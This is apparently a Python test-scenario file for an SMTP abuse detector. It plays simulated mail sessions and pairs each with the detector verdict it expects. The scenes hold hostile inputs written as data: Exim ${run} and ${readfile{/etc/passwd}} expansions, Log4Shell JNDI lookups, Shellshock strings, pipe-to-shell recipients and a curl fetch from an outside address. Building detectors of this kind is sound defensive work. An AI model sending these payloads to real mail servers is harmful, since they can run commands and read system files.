"""abuse_scenes_text.py - scenes of abuse.py: attacks in what is written (DETECTORS, section F), and lists of known evil."""
from abuse_scenes_transport import HIM, OFFER, READY, ASK, each, inside, talk
from abuse_talk import BYE, Scenes, mail, opening
from handshake import client_hello
from packets import CLIENT

SCENES = Scenes()
scene = SCENES.scene
OK = '250 2.1.0 ok'
HELLO = opening('mx.partner.example')
END = BYE + ['bye']
FROM, TO = ['C: MAIL FROM:<a@partner.example>', 'S: ' + OK], ['C: RCPT TO:<p@example.org>', 'S: ' + OK]


# ---- where a text can stand ----
def helo(text, reply):
    lines = ['S: 220 mx.example.org ESMTP', 'C: EHLO ' + text]
    return lines + (['S: 250-mx.example.org\r\n250 8BITMIME'] if reply[0] == '2' else ['S: ' + reply]) + END


def sender(text, reply):
    return HELLO + ['C: MAIL FROM:<%s>' % text, 'S: ' + reply] + END


def rcpt(text, reply):
    return HELLO + FROM + ['C: RCPT TO:<%s>' % text, 'S: ' + reply] + END


def command(text, reply):
    return HELLO + ['C: ' + text, 'S: ' + reply] + END


def in_mail(text, reply):
    return HELLO + FROM + ['C: ' + text, 'S: ' + reply] + END


def header(text, reply='250 2.0.0 queued', name='Subject'):
    return HELLO + mail('a@partner.example', 'p@example.org', end=reply, more='%s: %s\r\n' % (name, text)) + END


def body(text, reply='250 2.0.0 queued'):
    return HELLO + FROM + TO + ['C: DATA', 'S: 354 go on', 'C: From: <a@partner.example>\r\nSubject: a report\r\n\r\nThey sent %s to us.\r\n.' % text,
                                'S: ' + reply] + END


# Row, where, text, as another case writes it (None: case matters).
ENVELOPE = (
    ('exim_expansion', rcpt, '${run{/bin/sh -c id}}@example.org', '${RUN{/bin/sh -c id}}@example.org'),
    ('exim_expansion', sender, '${readfile{/etc/passwd}}@partner.example', '${ReadFile{/etc/passwd}}@partner.example'),
    ('exim_expansion', rcpt, 'root+${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost', None),
    ('exim_expansion', rcpt, 'a${x}b@example.org', None),
    ('exim_expansion', helo, '${run{id}}', '${Run{id}}'),
    ('jndi', helo, '${jndi:ldap://198.51.100.9/a}', '${JnDi:LDAP://198.51.100.9/a}'),
    ('jndi', sender, '${jndi:ldap://198.51.100.9/a}@partner.example', '${JNDI:ldap://198.51.100.9/a}@partner.example'),
    ('jndi', rcpt, '${${lower:j}ndi:ldap://198.51.100.9/a}@example.org', '${${LOWER:J}NDI:ldap://198.51.100.9/a}@example.org'),
    ('jndi', rcpt, '${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.9/a}@example.org', None),
    ('shellshock', helo, '() { :;}; /bin/id', None),
    ('shellshock', sender, '() { :;}; /bin/id@partner.example', None),
    ('shellshock', rcpt, '"() { :;}; id"@example.org', None),
    ('shell_in_path', rcpt, '"$(id)"@example.org', None),
    ('shell_in_path', rcpt, '`id`@example.org', None),
    ('shell_in_path', rcpt, '|/bin/sh@example.org', None),
    ('shell_in_path', rcpt, '"|/bin/sh -c id"@example.org', None),
    ('shell_in_path', sender, ';for i in 0 1 2;do read r;done;sh;exit 0;@partner.example', None),
    ('shell_in_path', sender, ';/bin/id;@partner.example', None),
    ('shell_in_path', rcpt, '"aabbb$(curl${IFS}198.51.100.9/a)"@example.org', None),
    ('param_newline', in_mail, 'MAIL FROM:<a@partner.example> AUTH=a+0Ab', 'MAIL FROM:<a@partner.example> auth=a+0ab'),
    ('param_newline', in_mail, 'RCPT TO:<p@example.org> ORCPT=rfc822;p+0Dx', 'RCPT TO:<p@example.org> orcpt=rfc822;p+0dx'),
    ('param_newline', in_mail, 'MAIL FROM:<a@partner.example> ENVID=x+0A+0Ay', None),
    ('many_angles', sender, '<>' * 20 + 'a@partner.example', None),
    ('many_angles', rcpt, '<>' * 30 + 'p@example.org', None),
    ('xexch50', command, 'XEXCH50 -1 2', 'xexch50 -1 2'),
    ('xexch50', command, 'XEXCH50 4294967295 2', None),
    ('xlink2state', command, 'X-LINK2STATE FIRST CHUNK=' + 'A' * 600, 'x-link2state first chunk=' + 'a' * 600),
    ('bdat', in_mail, 'BDAT -1', 'bdat -1'),
    ('bdat', in_mail, 'BDAT 9999999999999', None),
    ('bdat', in_mail, 'BDAT', None),
    ('bdat', in_mail, 'BDAT x', None),
    ('ehlo_length', helo, 'a' * 1100 + '.example', None),
    ('old_backdoors', command, 'WIZ', 'wiz'),
    ('old_backdoors', command, 'DEBUG', 'debug'),
    ('old_backdoors', rcpt, 'decode', 'DECODE'),
    ('old_backdoors', rcpt, '"|/bin/sed 1,/^$/d|/bin/sh"', None),
    ('bdat', in_mail, 'BDAT LAST', None),
)
EXPLOIT = 'exploit %s client ' + HIM
NEIGHBOURS = ['?%s %s client %s' % (*x, HIM) for x in (
    ('relay_probe', 'low'), ('vrfy_expn', 'low'), ('unasked_pipelining', 'low'))]
for i, (row, where, text, folded) in enumerate(ENVELOPE):
    for case in (text, folded) if folded else (text,):
        name = 'exploit: %s, %s: %s' % (row, where.__name__, case[:60])
        scene(name + ', taken', each((HIM, where(case, OK))), EXPLOIT % 'critical', *NEIGHBOURS)
        scene(name + ', refused', each((HIM, where(case, '550 5.5.4 no'))), EXPLOIT % 'high', *NEIGHBOURS)


# ---- cut at every octet ----
def torn(where, text, reply, step=1):
    def play(c):
        steps = where(text, reply)
        at = next(i for i, x in enumerate(steps) if text in x)
        octets = (steps[at][3:] + '\r\n').encode()
        for n, cut in enumerate(range(1, len(octets), step)):
            talk(c, n * 4, '198.51.%d.1' % n, steps[:at] + [(CLIENT, octets[:cut]), (CLIENT, octets[cut:])] + steps[at + 1:])
    return play


for where, text in [(where, text) for _, where, text, _ in ENVELOPE if len(text) < 60]:
    prefix = len({rcpt: 'RCPT TO:<>', sender: 'MAIL FROM:<>', helo: 'EHLO '}.get(where, ''))
    n = prefix + len(text) + 1
    scene('exploit: cut everywhere, ' + text, torn(where, text, '550 5.5.4 no'), *['exploit high client 198.51.%d.1' % i for i in range(n)],
          *['?%s low client 198.51.%d.1' % (d, i) for i in range(n) for d in ('relay_probe', 'unasked_pipelining')], torn=False)

scene('exploit: refused, then taken in the same session',
      each((HIM, HELLO + FROM + ['C: RCPT TO:<${run{id}}@example.org>', 'S: 550 5.1.1 no', 'C: RCPT TO:<${run{id}}@localhost>', 'S: ' + OK] + END)),
      EXPLOIT % 'critical' + ' told=2')

# ---- in the text of a message ----
for text in ('${run{/bin/sh -c id}}', '${jndi:ldap://198.51.100.9/a}', '() { :;}; /bin/id', '${${lower:j}ndi:ldap://x/a}'):
    scene('exploit: in a header, ' + text, each((HIM, header(text))), EXPLOIT % 'low')
    scene('exploit: in a header, refused, ' + text, each((HIM, header(text, '550 5.7.1 no'))), EXPLOIT % 'low')
    scene('exploit: look-alike, in a body, ' + text, each((HIM, body(text))), '?' + EXPLOIT % 'low')

scene('exploit: angles in From', each((HIM, header('<>' * 25 + ' <a@partner.example>', name='From'))), EXPLOIT % 'low')
for name in 'X-Api-Version', 'Received', 'X-Mailer', 'List-Unsubscribe', 'Comments', 'To', 'From', 'Reply-To':
    scene('exploit: in the header field ' + name, each((HIM, header('${jndi:ldap://198.51.100.9/a} <a@partner.example>', name=name))), EXPLOIT % 'low',
          '?lookalike_domain medium domain partner.example')
scene('exploit: in a folded field', each((HIM, header('one\r\n two ${run{id}}', name='X-Note'))), EXPLOIT % 'low')
scene('exploit: look-alike, a placeholder in a field', each((HIM, header('Dear ${name}, $(5) off', name='X-Note'))), silent=['exploit'])
scene('exploit: near miss, 19 angles in From', each((HIM, header('<>' * 19 + ' <a@partner.example>', name='From'))), silent=['exploit'])

# ---- nothing of the kind ----
for address in ('decode@example.org', "o'hara;x@example.org", 'bounce$123=p@example.org', 'prvs=1234abcd=p@example.org', 'SRS0=HHH=TT=partner.example=a@example.org',
                'user+tag@example.org', 'list-return-12-p=example.org@example.org', 'a$b@example.org', 'p&q@example.org', "d'arc@example.org",
                'bounces+12-ab34-p=example.org@example.org', '{p}@example.org', 'p!q@example.org', 'a|b@example.org', 'x{y}z@example.org',
                '"john doe"@example.org', '=?utf-8?q?x?=@example.org', 'p~1@example.org', 'p*@example.org', '#p@example.org', 'p/q@example.org'):
    scene('exploit: look-alike, ' + address, each((HIM, rcpt(address, OK))), *['?' + x.lstrip('?') for x in NEIGHBOURS], silent=['exploit'])
    scene('exploit: look-alike, from ' + address, each((HIM, sender(address.replace('example.org', 'partner.example'), OK))),
          '?lookalike_domain medium domain partner.example', silent=['exploit'])
for text in ('Price: ${amount}', 'function() {', 'a $(5) b', 'it costs $5 (five)', 'use `ls`', '<> <> <>', 'C++ main() { }'):
    scene('exploit: look-alike, in a body, ' + text, each((HIM, body(text))), silent=['exploit'])
scene('exploit: near miss, 19 angles', each((HIM, sender('<>' * 19 + 'a@partner.example', '501 5.1.7 no'))), silent=['exploit'])
scene('exploit: near miss, EHLO of 900 octets', each((HIM, helo('a' * 890 + '.example', OK))), silent=['exploit'])
scene('exploit: near miss, XEXCH50', each((HIM, command('XEXCH50 1024 2', '504 5.7.4 no'))), silent=['exploit'])
scene('exploit: near miss, X-LINK2STATE', each((HIM, command('X-LINK2STATE FIRST CHUNK=' + 'A' * 300, '500 what?'))), silent=['exploit'])
scene('exploit: near miss, ORCPT', each((HIM, in_mail('RCPT TO:<p@example.org> ORCPT=rfc822;p+2Bx@example.org', OK))), silent=['exploit'])
scene('exploit: near miss, BDAT', each((HIM, HELLO + FROM + TO + ['C: BDAT 7 LAST', 'C: hello', 'S: 250 ok'] + END)), silent=['exploit'])

# ---- at the server, and before it ----
for name in 'mx.example.org\\', 'mx.example\0.org':
    scene('exploit: sni_tail, %r' % name, each((HIM, OFFER + ASK + READY + inside(client_hello(name)))), 'exploit high client ' + HIM,
          '?tls_weak low server 192.0.2.25:25')
scene('exploit: near miss, a name', each((HIM, OFFER + ASK + READY + inside(client_hello('mx.example.org')))), silent=['exploit'])
scene('exploit: reply_shape', each((HIM, HELLO + FROM + ['C: RCPT TO:<p@example.org>', 'S: 550-5.1.1 no\x0bmbox: |id\r\n550 5.1.1 user'] + END)),
      'exploit high server 192.0.2.25:25')
scene('exploit: near miss, a reply of several lines', each((HIM, HELLO + FROM + ['C: RCPT TO:<p@example.org>', 'S: 550-5.1.1 no\r\n550\tuser'] + END)),
      silent=['exploit'])
